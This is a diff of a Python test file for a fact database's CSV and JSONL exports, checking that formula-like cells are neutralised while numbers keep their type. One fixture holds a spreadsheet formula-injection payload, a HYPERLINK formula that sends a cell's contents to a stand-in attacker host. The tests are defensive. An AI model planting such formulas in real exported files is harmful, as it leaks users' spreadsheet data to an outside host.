@@ -294,8 +294,8 @@ def facts(db, corpus):
     evidence = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
     confirmed = add_fact(db, a, evidence, 0, date_start="2021-12-28", date_end="2021-12-28", precision="day",
                          place="@St. Petersburg", held="held", event_id=event)
-    trade = add_fact(db, a, "Trade fell by 5%.", 20, kind="trade", value=-5.0, currency="USD",
-                     qualifier="-growth only", period_start="2021-01-01", period_end="2021-12-31",
+    trade = add_fact(db, a, "Trade fell by 5% to $30 billion.", 20, kind="trade", value=30e9, currency="USD",
+                     change_pct=-5.0, qualifier="-approx", period_start="2021-01-01", period_end="2021-12-31",
                      participants=[])
     proposed = add_fact(db, a, "They will meet.", 40, status="proposed", held="planned")
     return {"confirmed": confirmed, "trade": trade, "proposed": proposed, "event": event}
@@ -320,8 +320,9 @@ def test_facts_csv_neutralises_formulas(db, facts, tmp_path):
     assert meeting["event_id"] == str(facts["event"]) and meeting["file"] == "a.txt"
     assert (meeting["start"], meeting["end"]) == ("0", str(len('=HYPERLINK("http://evil.example/?"&A1, "Click")')))
     trade = next(r for r in rows if r["kind"] == "trade")
-    assert float(trade["value"]) == -5.0 and not trade["value"].startswith("'")  # numbers stay numbers
-    assert trade["qualifier"] == "'-growth only"
+    assert float(trade["value"]) == 30e9
+    assert trade["change_pct"] == "-5.0"  # a negative number stays a number, not a neutralised formula
+    assert trade["qualifier"] == "'-approx"
     raw = out.read_bytes()
     assert not raw.startswith(b"\xef\xbb\xbf")
     assert not any(cell.startswith(("=", "+", "@")) for row in csv.reader(raw.decode().splitlines()) for cell in row)
@@ -344,7 +345,8 @@ def test_facts_jsonl_keeps_types(db, facts, tmp_path):
     assert meeting["evidence"].startswith("=HYPERLINK(")
     assert meeting["participants"] == ["putin", "lukashenko"]
     assert meeting["event_id"] == facts["event"]
-    assert next(r for r in rows if r["kind"] == "trade")["value"] == -5.0
+    trade = next(r for r in rows if r["kind"] == "trade")
+    assert (trade["value"], trade["currency"], trade["change_pct"]) == (30e9, "USD", -5.0)
 
 
 def test_entities_csv_counts_mentions(db, corpus, tmp_path):
